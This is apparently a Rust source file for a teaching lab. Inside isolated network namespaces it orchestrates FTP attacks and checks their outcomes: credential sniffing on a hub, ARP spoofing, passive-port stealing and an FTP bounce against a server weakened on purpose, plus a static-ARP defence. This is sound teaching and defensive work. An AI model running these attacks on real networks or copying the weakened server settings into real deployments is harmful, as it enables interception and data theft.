//! Lab 6 live: the network of [`crate::netns`], two servers in the server's namespace, eve's
//! `inspector live` on her interface for the whole lab, and each part's actions: the client's
//! logins, eve's ARP spoofer, port thief and bounce, the victim's listener. Each part checks
//! what eve's inspector saw in that part; everything is removed at the end, on Ctrl-C, or by
//! the next run after a crash.

use crate::error::LabError;
use crate::events::{self, Events};
use crate::lab::lab6::{SAFE_PASSIVE, SAFE_PORT, VICTIM_PORT, WEAK_PASSIVE, WEAK_PORT};
use crate::lab::{self, Expectation, Seen};
use crate::live::LiveInspector;
use crate::netns::{BridgeMode, CLIENT, EVE, Host, IFACE, Network, SERVER, VICTIM};
use crate::procs::{self, Guard, WorkDir};
use crate::seed::Secrets;
use crate::text;
use crate::tools::Tools;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::thread;
use std::time::Duration;

/// The lab that runs in namespaces.
pub const LAB: u8 = 6;

/// How long a server may take to say where it listens.
const START_LIMIT: Duration = Duration::from_secs(30);
/// How long one client or helper run may take.
const RUN_LIMIT: Duration = Duration::from_secs(30);
/// Time for eve's inspector to report what the last frames showed.
const SETTLE: Duration = Duration::from_millis(800);

/// One part's result: what it checked.
type Checks = Vec<Expectation>;

fn check(what: impl Into<String>, met: bool) -> Expectation {
    Expectation {
        what: what.into(),
        met,
    }
}

/// Lab 6 running: the network, its servers and eve's inspector.
pub struct NetLab {
    tools: Tools,
    secrets: Secrets,
    me: PathBuf,
    files: PathBuf,
    notes: Vec<u8>,
    echo: bool,
    inspector: Option<LiveInspector>,
    /// The client's own capture (`labN.client.pcapng`): what the client's interface carried.
    client_capture: Option<LiveInspector>,
    servers: Vec<Guard>,
    // Dropped after the programs in it.
    net: Network,
    work: WorkDir,
}

impl NetLab {
    /// Builds the network, starts both servers and eve's inspector writing `capture`; `files`
    /// receives the stolen and bounced bytes.
    pub fn start(
        tools: &Tools,
        secrets: &Secrets,
        capture: &Path,
        files: &Path,
        echo: bool,
    ) -> Result<Self, LabError> {
        let net = Network::create(BridgeMode::Hub)?;
        let work = WorkDir::new("lab6")?;
        std::fs::create_dir_all(files)
            .map_err(LabError::io(format!("cannot create {}", files.display())))?;
        let mut lab = Self {
            tools: tools.clone(),
            secrets: secrets.clone(),
            me: tools.server.with_file_name("ftplab-lab"),
            files: files.to_path_buf(),
            notes: secrets.notes.clone(),
            echo,
            inspector: None,
            client_capture: None,
            servers: Vec::new(),
            net,
            work,
        };
        lab.start_server("safe", SAFE_PORT, SAFE_PASSIVE, &[])?;
        lab.start_server(
            "weak",
            WEAK_PORT,
            WEAK_PASSIVE,
            &[
                "--allow-foreign-passive-peer",
                "--allow-foreign-data-address",
            ],
        )?;
        lab.inspector = Some(lab.capture_on(EVE, capture, echo)?);
        let client = lab.capture_on(CLIENT, &lab::client_capture_for(capture), false)?;
        lab.client_capture = Some(client);
        Ok(lab)
    }

    /// `inspector live` on `host`'s interface, both servers' ports, written to `file`; `echo`
    /// shows its lines to the student.
    fn capture_on(&self, host: Host, file: &Path, echo: bool) -> Result<LiveInspector, LabError> {
        let mut cmd = self.net.command(host, &self.tools.inspector);
        cmd.args([
            "live",
            "--iface",
            IFACE,
            "--json",
            "--no-color",
            "--all-traffic",
        ])
        .args([
            "--port",
            &SAFE_PORT.to_string(),
            "--port",
            &WEAK_PORT.to_string(),
        ])
        .arg("--write")
        .arg(file);
        LiveInspector::spawn(cmd, echo, None).map_err(|e| LabError::NoLiveCapture {
            lab: 6,
            reason: e.to_string(),
        })
    }

    fn start_server(
        &mut self,
        label: &str,
        port: u16,
        passive: u16,
        weakenings: &[&str],
    ) -> Result<(), LabError> {
        let dir = self.work.path().join(label);
        crate::stage::prepare(&self.tools, &dir, &self.secrets)?;
        let log = self.files.join(format!("server-{label}.log"));
        let mut cmd = self.net.command(SERVER, &self.tools.server);
        cmd.arg("--db")
            .arg(crate::stage::db_url(&dir))
            .arg("serve")
            .arg("--listen")
            .arg(format!("{}:{port}", SERVER.ip))
            .arg("--passive-ports")
            .arg(format!("{passive}-{passive}"))
            .args(["--login-failure-delay-ms", "0"])
            .args(weakenings)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(
                std::fs::File::create(&log)
                    .map_err(LabError::io(format!("cannot create {}", log.display())))?,
            );
        let mut guard = Guard::spawn("ftp-server", &mut cmd)?;
        let out = guard
            .take_stdout()
            .ok_or(LabError::Missing("ftp-server's stdout is piped"))?;
        let rx = procs::lines(out);
        procs::wait_line(&rx, START_LIMIT, "ftp-server", |l| {
            l.starts_with("listening on ftp://").then_some(())
        })
        .map_err(|e| {
            let said = std::fs::read_to_string(&log).unwrap_or_default();
            LabError::step(format!(
                "ftp-server did not start; it said:\n{}",
                said.trim()
            ))(e)
        })?;
        thread::spawn(move || while rx.recv().is_ok() {});
        self.servers.push(guard);
        Ok(())
    }

    fn say(&self, line: &str) {
        if self.echo {
            println!("  {line}");
        }
    }

    /// Runs part `k` (1-6) and returns what it checked.
    pub fn part(&mut self, k: usize) -> Result<Checks, LabError> {
        let mark = self.inspector.as_ref().map_or(0, LiveInspector::count);
        // The hub part and the port stealing on a hub (eve reads the 227 she races for), every
        // other part on a switch, also when the lab starts there (`--step K`).
        if k == 4 {
            self.net.set_mode(BridgeMode::Hub)?;
        } else if k > 1 {
            self.net.set_mode(BridgeMode::Switch)?;
        }
        let mut checks = match k {
            1 => self.hub()?,
            2 => self.switch()?,
            3 => self.arp_spoofing()?,
            4 => self.port_stealing()?,
            5 => self.bounce()?,
            _ => self.defences()?,
        };
        thread::sleep(SETTLE);
        let seen = self
            .inspector
            .as_ref()
            .map(|i| i.since(mark))
            .unwrap_or_default();
        let password_seen = seen.credentials().any(|c| {
            events::text(c, "user") == Some(&self.secrets.user)
                && events::text(c, "password") == Some(&self.secrets.password)
        });
        let (what, want) = match k {
            1 => ("hub: eve's inspector saw the password", true),
            2 => ("switch: eve's inspector saw no password", false),
            3 => ("ARP spoofing: eve's inspector saw the password again", true),
            6 => ("static ARP entries: eve's inspector saw no password", false),
            _ => ("", password_seen),
        };
        if !what.is_empty() {
            checks.insert(0, check(what, password_seen == want));
        }
        Ok(checks)
    }

    /// The client logs in and downloads notes.txt from the safe server.
    fn login(&self) -> Result<bool, LabError> {
        let s = &self.secrets;
        let mut cmd = self.net.command(CLIENT, &self.tools.client);
        cmd.current_dir(self.work.path())
            .args(["-u", &s.user, "--password-stdin", "--json", "--no-progress"])
            .args(["-c", "get notes.txt"])
            .arg(SERVER.ip.to_string())
            .arg(SAFE_PORT.to_string());
        self.say(&format!(
            "$ echo {} | ip netns exec {} ftp-client -u {} --password-stdin -c 'get notes.txt' {} {SAFE_PORT}",
            s.password,
            self.net.namespace(CLIENT),
            s.user,
            SERVER.ip
        ));
        let input = format!("{}\n", s.password);
        let out = procs::run_bounded("ftp-client", &mut cmd, input.as_bytes(), RUN_LIMIT)?;
        Ok(out.success())
    }

    /// Forgets every neighbour of `hosts` (the next frame needs an ARP request).
    fn flush_arp(&self, hosts: &[Host]) -> Result<(), LabError> {
        for h in hosts {
            self.net.ip_in(*h, &["neigh", "flush", "dev", IFACE])?;
        }
        Ok(())
    }

    fn hub(&mut self) -> Result<Checks, LabError> {
        self.net.set_mode(BridgeMode::Hub)?;
        self.say("bridge: hub (ageing time 0: every frame goes out of every port)");
        Ok(vec![check("hub: the client's login worked", self.login()?)])
    }

    fn switch(&mut self) -> Result<Checks, LabError> {
        self.net.set_mode(BridgeMode::Switch)?;
        // Empty caches: the client must ask who has the server's address, and eve sees that.
        self.flush_arp(&[CLIENT, SERVER])?;
        self.say("bridge: switch (learns which port each MAC address is behind)");
        Ok(vec![check(
            "switch: the client's login worked",
            self.login()?,
        )])
    }

    fn spoofer(&self, count: u32) -> Result<Guard, LabError> {
        let mut cmd = self.net.command(EVE, &self.me);
        cmd.args(["net", "arp-spoof", "--iface", IFACE])
            .arg("--a")
            .arg(format!("{}={}", CLIENT.ip, CLIENT.mac))
            .arg("--b")
            .arg(format!("{}={}", SERVER.ip, SERVER.mac))
            .args(["--count", &count.to_string(), "--interval-ms", "250"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        self.say(&format!(
            "eve: ftplab-lab net arp-spoof: to {} \"{} is at {}\", to {} \"{} is at {}\" (every 250 ms, {count} times)",
            CLIENT.ip, SERVER.ip, EVE.mac, SERVER.ip, CLIENT.ip, EVE.mac
        ));
        Guard::spawn("arp spoofer", &mut cmd)
    }

    /// Fills the client's and the server's caches (a spoofed reply only updates an entry).
    fn probe(&self) -> Result<(), LabError> {
        let mut cmd = self.net.command(CLIENT, &self.me);
        cmd.args(["net", "probe", "--connect"])
            .arg(format!("{}:{SAFE_PORT}", SERVER.ip));
        procs::run_bounded("probe", &mut cmd, b"", RUN_LIMIT)?;
        Ok(())
    }

    fn show_cache(&self, host: Host, of: Host) -> Option<String> {
        let mac = self.net.arp_entry(host, of);
        self.say(&format!(
            "{}'s ARP cache: {} is at {}",
            host.name,
            of.ip,
            mac.as_deref().unwrap_or("(no entry)")
        ));
        mac
    }

    fn arp_spoofing(&mut self) -> Result<Checks, LabError> {
        self.net.set_mode(BridgeMode::Switch)?;
        // Eve's kernel forwards what arrives for others, and sends no ICMP redirect that
        // would tell the client the better way.
        self.net.sysctl(
            EVE,
            &[
                "net.ipv4.ip_forward=1",
                "net.ipv4.conf.all.send_redirects=0",
                &format!("net.ipv4.conf.{IFACE}.send_redirects=0"),
            ],
        )?;
        self.probe()?;
        let spoofer = self.spoofer(24)?;
        // Linux ignores a reply for an entry updated less than a second ago (locktime): wait
        // until both caches took one, at most a few seconds.
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while std::time::Instant::now() < deadline
            && (self.net.arp_entry(CLIENT, SERVER).as_deref() != Some(EVE.mac)
                || self.net.arp_entry(SERVER, CLIENT).as_deref() != Some(EVE.mac))
        {
            thread::sleep(Duration::from_millis(100));
        }
        let client_sees = self.show_cache(CLIENT, SERVER);
        let server_sees = self.show_cache(SERVER, CLIENT);
        let ok = self.login()?;
        drop(spoofer);
        // Back to the truth for the next parts.
        self.flush_arp(&[CLIENT, SERVER])?;
        Ok(vec![
            check(
                "ARP spoofing: the client's cache put the server's address at eve's MAC",
                client_sees.as_deref() == Some(EVE.mac),
            ),
            check(
                "ARP spoofing: the server's cache put the client's address at eve's MAC",
                server_sees.as_deref() == Some(EVE.mac),
            ),
            check(
                "ARP spoofing: the client's login still worked (eve forwards)",
                ok,
            ),
        ])
    }

    /// Eve connects to `passive` while the slow client waits; true when she got the file.
    fn steal_once(&self, port: u16, passive: u16, label: &str) -> Result<(bool, bool), LabError> {
        let eve_file = self.files.join(format!("stolen-{label}.bin"));
        let client_file = self.files.join(format!("client-{label}.bin"));
        let _ = std::fs::remove_file(&eve_file);
        let mut client = self.net.command(CLIENT, &self.me);
        client
            .args(["net", "slow-get", "--server"])
            .arg(format!("{}:{port}", SERVER.ip))
            .args(["--user", &self.secrets.user, "--file", "notes.txt", "--out"])
            .arg(&client_file)
            .args(["--pause-ms", "1500"]);
        let password = format!("{}\n", self.secrets.password);
        let slow = thread::spawn(move || {
            procs::run_bounded("slow client", &mut client, password.as_bytes(), RUN_LIMIT)
        });
        // Eve starts once the client is under way, and knocks on the port until it opens.
        thread::sleep(Duration::from_millis(300));
        let mut thief = self.net.command(EVE, &self.me);
        thief
            .args(["net", "steal", "--connect"])
            .arg(format!("{}:{passive}", SERVER.ip))
            .arg("--out")
            .arg(&eve_file)
            .args(["--limit-ms", "4000"]);
        let eve = procs::run_bounded("eve's thief", &mut thief, b"", RUN_LIMIT)?;
        let client = slow
            .join()
            .map_err(|_| LabError::Missing("the slow client's thread panicked"))??;
        self.say(&format!(
            "{label} server (port {port}, passive port {passive}): eve: {}; client: {}",
            eve.stdout.trim().replace('\n', ", "),
            client.stdout.trim().lines().last().unwrap_or("")
        ));
        let stole = std::fs::read(&eve_file).is_ok_and(|b| b == self.notes);
        let got = std::fs::read(&client_file).is_ok_and(|b| b == self.notes);
        Ok((stole, got))
    }

    fn port_stealing(&mut self) -> Result<Checks, LabError> {
        let (safe_stolen, safe_got) = self.steal_once(SAFE_PORT, SAFE_PASSIVE, "safe")?;
        let (weak_stolen, weak_got) = self.steal_once(WEAK_PORT, WEAK_PASSIVE, "weak")?;
        Ok(vec![
            check(
                "port stealing: the safe server refused eve's connection and sent the client its file",
                !safe_stolen && safe_got,
            ),
            check(
                "port stealing: the weakened server (--allow-foreign-passive-peer) sent eve the file",
                weak_stolen && !weak_got,
            ),
        ])
    }

    /// Eve sends PORT naming the victim to the server on `port`; true when the victim got data.
    fn bounce_once(&self, port: u16, label: &str) -> Result<(bool, usize), LabError> {
        let file = self.files.join(format!("victim-{label}.bin"));
        let _ = std::fs::remove_file(&file);
        let mut listen = self.net.command(VICTIM, &self.me);
        listen
            .args(["net", "listen", "--bind"])
            .arg(format!("{}:{VICTIM_PORT}", VICTIM.ip))
            .arg("--out")
            .arg(&file)
            .args(["--limit-ms", "3000"])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null());
        let mut listener = Guard::spawn("victim's listener", &mut listen)?;
        let out = listener
            .take_stdout()
            .ok_or(LabError::Missing("the listener's stdout is piped"))?;
        procs::wait_line(&procs::lines(out), RUN_LIMIT, "victim's listener", |l| {
            l.starts_with("listening").then_some(())
        })?;
        let arg = format!(
            "{},{},{}",
            VICTIM.ip.to_string().replace('.', ","),
            VICTIM_PORT / 256,
            VICTIM_PORT % 256
        );
        let commands = format!("quote PORT {arg}; quote LIST");
        let mut cmd = self.net.command(EVE, &self.tools.client);
        cmd.current_dir(self.work.path())
            .args([
                "-u",
                lab::BOUNCE_USER,
                "--password-stdin",
                "--json",
                "--no-progress",
            ])
            .args(["-c", &commands])
            .arg(SERVER.ip.to_string())
            .arg(port.to_string());
        self.say(&format!(
            "eve: ftp-client -u {} -c '{commands}' {} {port}   ({label} server)",
            lab::BOUNCE_USER,
            SERVER.ip
        ));
        let input = format!("{}\n", lab::BOUNCE_PASSWORD);
        procs::run_bounded("ftp-client", &mut cmd, input.as_bytes(), RUN_LIMIT)?;
        listener.wait_for(Duration::from_secs(5));
        drop(listener);
        let got = std::fs::read(&file).map_or(0, |b| b.len());
        self.say(&format!(
            "victim {}:{VICTIM_PORT} received {got} bytes",
            VICTIM.ip
        ));
        Ok((got > 0, got))
    }

    fn bounce(&mut self) -> Result<Checks, LabError> {
        let (safe, _) = self.bounce_once(SAFE_PORT, "safe")?;
        let (weak, _) = self.bounce_once(WEAK_PORT, "weak")?;
        Ok(vec![
            check(
                "bounce: the safe server did not connect to the victim",
                !safe,
            ),
            check(
                "bounce: the weakened server (--allow-foreign-data-address) sent the victim data",
                weak,
            ),
        ])
    }

    fn defences(&mut self) -> Result<Checks, LabError> {
        for (host, of) in [(CLIENT, SERVER), (SERVER, CLIENT)] {
            let ip = of.ip.to_string();
            self.net.ip_in(
                host,
                &[
                    "neigh",
                    "replace",
                    &ip,
                    "lladdr",
                    of.mac,
                    "dev",
                    IFACE,
                    "nud",
                    "permanent",
                ],
            )?;
            self.say(&format!(
                "$ ip -n {} neigh replace {ip} lladdr {} dev {IFACE} nud permanent",
                self.net.namespace(host),
                of.mac
            ));
        }
        let spoofer = self.spoofer(12)?;
        thread::sleep(Duration::from_millis(1200));
        let client_sees = self.show_cache(CLIENT, SERVER);
        let ok = self.login()?;
        drop(spoofer);
        Ok(vec![
            check(
                "static ARP entries: the client's cache kept the server's real MAC",
                client_sees.as_deref() == Some(SERVER.mac),
            ),
            check("static ARP entries: the client's login worked", ok),
        ])
    }

    /// Stops eve's inspector (it finishes the capture) and returns everything it reported.
    pub fn stop(mut self) -> Events {
        let events = self
            .inspector
            .take()
            .map(LiveInspector::stop)
            .unwrap_or_default();
        if let Some(client) = self.client_capture.take() {
            client.stop();
        }
        self.servers.clear();
        events
    }
}

/// `ftplab-lab lab 6` live: the parts, one per step of `labs/lab6.md`.
pub fn run(args: &crate::runner::LabArgs, secrets: &Secrets) -> Result<bool, LabError> {
    if let Some(why) = crate::netns::missing_privilege() {
        return Err(LabError::NeedsRoot(why));
    }
    let tools = Tools::locate()?;
    let n = 6;
    let lab_text = text::parse(text::LABS[usize::from(n)]);
    let steps = lab_text.steps.len();
    let work_dir = crate::work::dir(n);
    std::fs::create_dir_all(&work_dir).map_err(LabError::io(format!(
        "cannot create your work folder {}",
        work_dir.display()
    )))?;
    let capture = crate::work::next_capture(n);
    let files = crate::work::files_for(&capture);
    let vars = vec![
        ("capture", capture.display().to_string()),
        ("user", secrets.user.clone()),
        ("password", secrets.password.clone()),
        ("inspector", tools.inspector.display().to_string()),
        ("client", tools.client.display().to_string()),
        ("work", files.display().to_string()),
        ("answers", crate::work::shown(&crate::work::answers_file(n))),
        ("lab", n.to_string()),
    ];
    println!("\n{}\n", lab_text.title);
    let mut lab = NetLab::start(&tools, secrets, &capture, &files, true)?;
    println!(
        "  hosts (namespaces {}…, bridge {} in the root namespace):",
        lab.net.prefix(),
        lab.net.bridge()
    );
    for h in crate::netns::HOSTS {
        println!("    {:<7} {:<10} {}", h.name, h.ip, h.mac);
    }
    println!(
        "  servers on {}: safe :{SAFE_PORT} (passive port {SAFE_PASSIVE}), weakened :{WEAK_PORT} (passive port {WEAK_PASSIVE})",
        SERVER.ip
    );
    println!("  your account: {} / {}", secrets.user, secrets.password);
    println!(
        "  eve's inspector: live on her {IFACE}, saving {}",
        crate::work::shown(&capture)
    );
    println!(
        "  a shell on a host while the lab runs (second terminal): sudo ip netns exec {} bash \
         (`sudo just lab6 shell client`)",
        lab.net.namespace(CLIENT)
    );
    println!("  Ctrl-C ends the lab and removes its namespaces and processes.");
    if args.step == 1 {
        for s in &lab_text.intro {
            println!("\n## {}\n{}", s.heading, text::fill(&s.body, &vars));
        }
    }
    let mut checks = Vec::new();
    let mut stopped_at = None;
    for (i, step) in lab_text.steps.iter().enumerate().skip(args.step - 1) {
        let k = i + 1;
        println!(
            "\n━━ Step {k} of {steps}: {} ━━",
            step.heading
                .split_once(':')
                .map_or(step.heading.as_str(), |(_, t)| t.trim())
        );
        println!("{}\n", text::fill(&step.body, &vars));
        checks.extend(lab.part(k)?);
        if !args.auto && k < steps && !crate::keys::wait_for_student(k, steps) {
            stopped_at = Some(k);
            break;
        }
    }
    lab.stop();
    println!(
        "\nEve's capture is saved in {}.",
        crate::work::shown(&capture)
    );
    if let Some(k) = stopped_at {
        println!(
            "Stopped at step {k}: `{}` resumes here.",
            crate::runner::resume_command(args, k)
        );
        return Ok(true);
    }
    println!("\n━━ What you should have seen ━━");
    let mut all_ok = true;
    for e in &checks {
        println!("  {} {}", if e.met { "✓" } else { "✗" }, e.what);
        all_ok &= e.met;
    }
    for s in &lab_text.outro {
        println!("\n## {}\n{}", s.heading, text::fill(&s.body, &vars));
    }
    let (answers, _) =
        crate::work::ensure(n, Some(&capture), args.seed, secrets.student.as_deref())?;
    println!(
        "\nAnswer in {} (capture = \"{}\"), then `just check lab6`; `just hint lab6 Q` gives hints.",
        crate::work::shown(&answers),
        crate::work::shown(&capture)
    );
    if args.auto && !all_ok {
        eprintln!("ftplab-lab: lab6 --auto: something the student should see did not appear");
    }
    Ok(!args.auto || all_ok)
}

/// `ftplab-lab captures --lab 6`: every part, eve's capture into `file`; false when a part or
/// the capture does not show what the lab expects.
pub fn record(tools: &Tools, secrets: &Secrets, file: &Path) -> Result<bool, LabError> {
    // The namespaces have fixed names: recordings in parallel (`teacher captures --jobs`) take
    // turns.
    static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());
    let _turn = ONE_AT_A_TIME
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    let work = WorkDir::new("lab6-record")?;
    let _ = std::fs::remove_file(file);
    let _ = std::fs::remove_file(lab::client_capture_for(file));
    println!("lab6: recording eve's capture in the lab's namespaces");
    let mut lab = NetLab::start(tools, secrets, file, work.path(), false)?;
    let mut ok = true;
    for k in 1..=6 {
        for e in lab.part(k)? {
            println!("  {} {}", if e.met { "✓" } else { "✗" }, e.what);
            ok &= e.met;
        }
    }
    lab.stop();
    let seen = Seen {
        events: events::read_capture(&tools.inspector, file)?,
        extracted: Vec::new(),
        packets: crate::packets::Packets::read(file)?,
        decrypted: Events::default(),
        arp: crate::packets::read_arp(file)?,
        client: lab::client_packets(file),
    };
    for e in (lab::get(6).expect)(&seen, secrets) {
        println!("  {} {}", if e.met { "✓" } else { "✗" }, e.what);
        ok &= e.met;
    }
    let size = std::fs::metadata(file).map(|m| m.len()).unwrap_or(0);
    println!("  wrote {} ({size} bytes)", file.display());
    Ok(ok)
}
